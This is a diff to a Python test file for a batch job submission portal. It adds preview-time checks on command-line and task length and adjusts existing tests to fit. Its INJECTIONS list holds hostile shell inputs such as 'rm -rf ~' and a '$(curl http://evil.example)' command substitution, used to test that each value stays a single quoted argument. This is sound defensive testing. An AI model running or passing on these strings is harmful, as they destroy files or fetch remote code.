@@ -15,7 +15,7 @@ from batchsync.gateway import BatchGateway, PoolSpec
 from batchsync.sync import sync_account
 from portal.models import JobTemplate, JobTemplateVersion, Submission, SubmissionState
 from portal.pagination import keyset_page
-from portal.submit import render, services
+from portal.submit import limits, render, services
 from portal.submit.selectors import SUBMISSION_SORT
 from portal.submit.services import SubmissionError
 from portal.submit.values import InputFile
@@ -292,7 +292,7 @@ def test_an_engineers_command_line_is_used(client, engineer):
 # --- bad input ----------------------------------------------------------------------------------------------
 
 INJECTIONS = ["; rm -rf ~", "$(curl http://evil.example)", "`id`", "a && b | c", "it's \"quoted\"",
-              "%COMSPEC% > /dev/null", "-rf", "x" * 100_000]
+              "%COMSPEC% > /dev/null", "-rf", "x" * 8_000]  # longer is refused at the preview (test_submit_limits)
 
 
 @pytest.mark.parametrize("value", INJECTIONS)
@@ -306,6 +306,15 @@ def test_a_string_stays_one_argument_whatever_it_holds(signed_in, all_types, val
     assert argv[:2] == ["/bin/sh", "-c"] and len(argv) == 3
     # What the shell runs: printf with each value as exactly one word, the string exactly as typed.
     assert shlex.split(argv[2]) == ["printf", "%s\\n", value, "3", "2.5", "slow", "--verbose", "done"]
+
+
+def test_a_value_batch_would_refuse_is_said_at_the_preview_beside_its_field(signed_in, all_types):
+    response = preview(signed_in, "every-type", text="x" * 100_000, count="3", ratio="2.5", mode="slow")
+
+    page = text(response)
+    assert "Batch would refuse these tasks; nothing was submitted." in page
+    assert "command line is 100,0" in page and "at most 8,192" in page
+    assert "This creates" not in page and not Submission.objects.exists()
 
 
 @pytest.mark.parametrize("field, value, words", [
@@ -529,6 +538,10 @@ def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(sign
         **version.spec, "parameters": [{**version.spec["parameters"][0], "max_length": 1_500_000},
                                        *version.spec["parameters"][1:]]})
 
+    # The preview refuses such a task now (portal/submit/limits.py); Batch's own refusal is still read plainly for
+    # what the preview cannot foresee, so that check is widened here.
+    monkeypatch.setattr(limits, "COMMAND_LINE_MAX_CHARS", 10**9)
+    monkeypatch.setattr(limits, "TASK_MAX_BYTES", 10**9)
     shown = preview(signed_in, "every-type", text="x" * 1_100_000)
     assert "This creates 1 task" in text(shown), "the portal itself allows it; Batch has the last word"
     confirm(signed_in, "every-type", shown)
